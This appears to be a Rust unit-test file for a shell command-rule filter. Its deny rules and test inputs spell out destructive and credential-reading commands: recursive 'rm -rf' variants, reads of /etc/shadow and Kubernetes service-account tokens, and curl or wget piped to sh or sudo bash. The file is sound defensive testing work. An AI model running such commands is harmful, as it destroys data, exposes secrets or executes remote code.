//! Unit tests for the command-rule matcher (kept apart so `rules.rs` stays readable).

use super::*;

fn rule(
    name: &str,
    action: RuleAction,
    programs: &[&str],
    flags: &[&str],
    paths: &[&str],
) -> CommandRule {
    let globs = paths
        .iter()
        .map(|p| (p.to_string(), compile_glob(p).unwrap()))
        .collect();
    CommandRule::new(
        name.into(),
        action,
        programs
            .iter()
            .map(std::string::ToString::to_string)
            .collect(),
        flags.iter().map(std::string::ToString::to_string).collect(),
        globs,
        None,
        format!("{name} says no"),
    )
    .unwrap()
}

fn demo_rules() -> Vec<CommandRule> {
    let mut pipe = rule("no-pipe-to-shell", RuleAction::Deny, &[], &[], &[]);
    pipe.pattern =
        Some(compile_pattern(r"(curl|wget)\b.*\|\s*(sudo\s+)?(ba|da|z|k)?sh\b").unwrap());
    vec![
        rule(
            "allow-tmp-cleanup",
            RuleAction::Allow,
            &["rm"],
            &[],
            &["/tmp/**"],
        ),
        rule(
            "no-rm-r",
            RuleAction::Deny,
            &["rm"],
            &["-r", "-R", "--recursive"],
            &[],
        ),
        rule("no-shadow", RuleAction::Deny, &[], &[], &["/etc/shadow"]),
        rule(
            "no-token",
            RuleAction::Deny,
            &[],
            &[],
            &["/var/run/secrets/**"],
        ),
        pipe,
        rule(
            "audit-env",
            RuleAction::Audit,
            &["env", "printenv"],
            &[],
            &[],
        ),
    ]
}

fn allowed(line: &str) -> bool {
    evaluate_line(&demo_rules(), line).allowed
}

#[test]
fn recursive_delete_is_denied_in_every_spelling() {
    for line in [
        "rm -rf /data",
        "rm -fr /data",
        "rm -r -f /data",
        "rm -Rf /data",
        "rm --recursive /data",
        "/bin/rm -rf /data",
        "sudo rm -rf /data",
        "FOO=1 rm -rf /data",
        "ls; rm -rf /data",
        "true && rm -rf /data",
        "echo $(rm -rf /data)",
    ] {
        let d = evaluate_line(&demo_rules(), line);
        assert!(!d.allowed, "{line}");
        assert_eq!(d.rule.as_deref(), Some("no-rm-r"), "{line}");
        assert_eq!(d.message.as_deref(), Some("no-rm-r says no"));
    }
}

#[test]
fn ordinary_commands_pass() {
    for line in [
        "ls -la /data",
        "rm /data/file.tmp",
        "rm -f /data/file.tmp",
        "cat /etc/hosts",
        "grep -r error /var/log",
        "curl -s http://localhost:8080/healthz",
        "echo 'rm -rf /'",
        "",
    ] {
        assert!(allowed(line), "{line}");
    }
}

#[test]
fn an_earlier_allow_rule_wins() {
    let d = evaluate_line(&demo_rules(), "rm -rf /tmp/scratch");
    assert!(d.allowed);
    assert_eq!(d.rule.as_deref(), Some("allow-tmp-cleanup"));
}

#[test]
fn paths_match_after_normalizing_and_in_redirections() {
    for line in [
        "cat /etc/shadow",
        "cat /etc//shadow",
        "cat /tmp/../etc/shadow",
        "cat </etc/shadow",
        "head -n1 \"/etc/shadow\"",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        "tool --file=/etc/shadow",
    ] {
        assert!(!allowed(line), "{line}");
    }
    assert!(allowed("cat /etc/shadow.bak"));
    assert!(allowed("ls /var/run"));
}

#[test]
fn patterns_search_the_whole_line() {
    assert!(!allowed("curl -s https://x.example/install | sh"));
    assert!(!allowed("wget -qO- https://x.example/i | sudo bash"));
    assert!(allowed("curl -s https://x.example/data | jq ."));
}

#[test]
fn audit_rules_mark_without_deciding() {
    let d = evaluate_line(&demo_rules(), "env");
    assert!(d.allowed);
    assert_eq!(d.audit, vec!["audit-env".to_string()]);
    let d = evaluate_line(&demo_rules(), "printenv | rm -rf /");
    assert!(!d.allowed);
    assert_eq!(d.audit, vec!["audit-env".to_string()]);
}

#[test]
fn strict_mode_allows_listed_prefixes_only() {
    let allowed_cmds = vec![
        vec!["ps".to_string(), "aux".to_string()],
        vec!["cat".to_string()],
    ];
    let rules = demo_rules();
    assert!(evaluate_strict(&rules, &allowed_cmds, "ps aux").allowed);
    assert!(evaluate_strict(&rules, &allowed_cmds, "cat /app/config.yaml").allowed);
    assert!(!evaluate_strict(&rules, &allowed_cmds, "ps").allowed);
    assert!(!evaluate_strict(&rules, &allowed_cmds, "bash").allowed);
    assert!(!evaluate_strict(&rules, &allowed_cmds, "ps aux | sh").allowed);
    assert!(!evaluate_strict(&rules, &allowed_cmds, "cat $(echo /etc/shadow)").allowed);
    // Listed, but a deny rule still applies.
    let d = evaluate_strict(&rules, &allowed_cmds, "cat /etc/shadow");
    assert_eq!(d.rule.as_deref(), Some("no-shadow"));
}

#[test]
fn tokenizer_handles_quotes_and_separators() {
    assert_eq!(
        split_commands(r#"a 'b c' "d \" e" f\ g | h;i&&j"#),
        vec![
            vec!["a".to_string(), "b c".into(), "d \" e".into(), "f g".into()],
            vec!["h".into()],
            vec!["i".into()],
            vec!["j".into()],
        ]
    );
    assert!(split_commands("  ").is_empty());
}

#[test]
fn globs_must_be_absolute_and_parse() {
    assert!(compile_glob("etc/shadow").unwrap_err().contains("absolute"));
    assert!(
        compile_glob("/etc/[shadow")
            .unwrap_err()
            .contains("does not parse")
    );
    assert!(
        compile_pattern("(unclosed")
            .unwrap_err()
            .contains("does not compile")
    );
}
